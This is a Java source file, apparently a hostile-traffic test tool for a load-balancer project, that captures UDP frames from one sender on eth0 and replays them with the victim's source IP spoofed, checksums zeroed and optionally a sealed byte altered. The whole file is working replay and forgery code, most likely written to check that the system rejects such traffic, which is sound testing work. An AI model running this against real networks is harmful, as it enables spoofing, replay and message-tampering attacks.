package dev.baton.lb.system.hostile;

import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.NetworkInterface;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Records the datagrams to one port that pass the interface eth0, and sends them again as if the same host did. Arguments:
 * {@code record PORT SOURCE COUNT FILE}, {@code replay TIMES FILE} or {@code forge TIMES FILE}: with a byte changed that is
 * under the seal. SOURCE is the last number of the sender's IPv4 address.
 */
final class Recorder {

    private static final int IP_AT = 14;
    private static final int PROTOCOL_AT = IP_AT + 9;
    private static final int SOURCE_LAST_AT = IP_AT + 15;
    private static final int UDP_AT = IP_AT + 20;
    private static final int CHECKSUM_AT = UDP_AT + 6;
    private static final int UDP = 17;
    private static final int MAC_BYTES = 6;
    private static final int PAUSE_MILLIS = 2;

    private final FrameSocket socket;
    private final byte[] ownMac;

    private Recorder() throws IOException {
        NetworkInterface eth0 = NetworkInterface.getByName("eth0");
        socket = FrameSocket.open(eth0.getIndex());
        ownMac = eth0.getHardwareAddress();
    }

    public static void main(String[] args) throws IOException, InterruptedException {
        Recorder recorder = new Recorder();
        switch (args[0]) {
            case "record" ->
                recorder.record(
                        Integer.parseInt(args[1]),
                        Integer.parseInt(args[2]),
                        Integer.parseInt(args[3]),
                        Path.of(args[4]));
            case "replay" -> recorder.send(Integer.parseInt(args[1]), Path.of(args[2]), false);
            case "forge" -> recorder.send(Integer.parseInt(args[1]), Path.of(args[2]), true);
            default -> throw new IllegalArgumentException(args[0]);
        }
        System.out.println("done");
    }

    private void record(int port, int source, int count, Path file) throws IOException {
        List<byte[]> frames = new ArrayList<>();
        while (frames.size() < count) {
            byte[] frame = socket.receive();
            if (isFrom(frame, source) && destinationPort(frame) == port) {
                frames.add(frame);
            }
        }
        try (DataOutputStream out = new DataOutputStream(Files.newOutputStream(file))) {
            out.writeInt(frames.size());
            for (byte[] frame : frames) {
                out.writeInt(frame.length);
                out.write(frame);
            }
        }
    }

    private void send(int times, Path file, boolean forge) throws IOException, InterruptedException {
        List<byte[]> frames = new ArrayList<>();
        try (DataInputStream in = new DataInputStream(Files.newInputStream(file))) {
            for (int left = in.readInt(); left > 0; left--) {
                frames.add(disguise(in.readNBytes(in.readInt()), forge));
            }
        }
        for (int time = 0; time < times; time++) {
            for (byte[] frame : frames) {
                socket.send(frame);
                Thread.sleep(PAUSE_MILLIS);
            }
        }
    }

    /** The IP header is the victim's; a MAC address of its own keeps the switch from sending the victim's frames here. */
    private byte[] disguise(byte[] frame, boolean forge) {
        System.arraycopy(ownMac, 0, frame, MAC_BYTES, MAC_BYTES);
        // None (RFC 768): what was recorded may have been left to a network card to fill in.
        frame[CHECKSUM_AT] = 0;
        frame[CHECKSUM_AT + 1] = 0;
        if (forge) {
            frame[frame.length - 1] ^= 1;
        }
        return frame;
    }

    private static boolean isFrom(byte[] frame, int source) {
        return frame.length > CHECKSUM_AT + 2
                && frame[IP_AT] == 0x45
                && frame[PROTOCOL_AT] == UDP
                && (frame[SOURCE_LAST_AT] & 0xFF) == source;
    }

    private static int destinationPort(byte[] frame) {
        return (frame[UDP_AT + 2] & 0xFF) << 8 | (frame[UDP_AT + 3] & 0xFF);
    }
}
